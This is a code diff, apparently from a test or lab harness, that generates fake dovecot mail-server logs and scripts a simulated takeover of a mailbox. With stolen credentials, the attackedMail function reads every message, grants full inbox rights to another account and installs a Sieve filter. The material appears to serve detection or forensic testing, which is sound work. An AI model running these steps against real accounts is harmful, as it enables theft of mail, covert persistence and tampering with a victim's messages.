@@ -21,7 +21,9 @@ function history() {
       for (const hour of [8, 11, 15]) {
         const at = new Date(Date.now() - day * 86_400_000);
         at.setHours(hour, 10 + (n % 40), n % 60);
-        text += `${months[at.getMonth()]} ${String(at.getDate()).padStart(2, ' ')} ${two(at.getHours())}:${two(at.getMinutes())}:${two(at.getSeconds())} mx1 dovecot: imap-login: Info: Login: user=<${name}>, method=PLAIN, rip=192.0.2.${10 + (name.length % 5)}, lip=127.0.0.1, mpid=${1000 + n}, TLS, session=<h${n}AAA>\n`;
+        const stamp = `${months[at.getMonth()]} ${String(at.getDate()).padStart(2, ' ')} ${two(at.getHours())}:${two(at.getMinutes())}:${two(at.getSeconds())}`;
+        text += `${stamp} mx1 dovecot: imap-login: Info: Login: user=<${name}>, method=PLAIN, rip=192.0.2.${10 + (name.length % 5)}, lip=127.0.0.1, mpid=${1000 + n}, TLS, session=<h${n}AAA>\n`;
+        if (hour === 11) text += `${stamp} mx1 dovecot: lmtp(${name})<2${1000 + n}><l${n}AAA>: Info: save: box=INBOX, uid=${n + 1}, msgid=<h${n}@partner.example>, from=<labo@partner.example>, subject=Bilan\n`;
         n += 1;
       }
   return text;
@@ -44,7 +46,7 @@ export async function attackedMail() {
   await stolen.imap('SELECT INBOX');
   await stolen.imap('FETCH 1:* (BODY.PEEK[])');
   await stolen.imap('SETACL INBOX paul@chu.test lrwstipekxa');
-  const filters = await mail.sieve(victim, password);
+  const filters = await mail.sieve(victim, password, attacker);
   for (const command of [`PUTSCRIPT "a" {${Buffer.byteLength(sieve)}+}\r\n${sieve}`, 'SETACTIVE "a"']) {
     filters.send(`${command}\r\n`);
     must((await filters.read(/^(OK|NO).*\r\n/m)).startsWith('OK'), command);
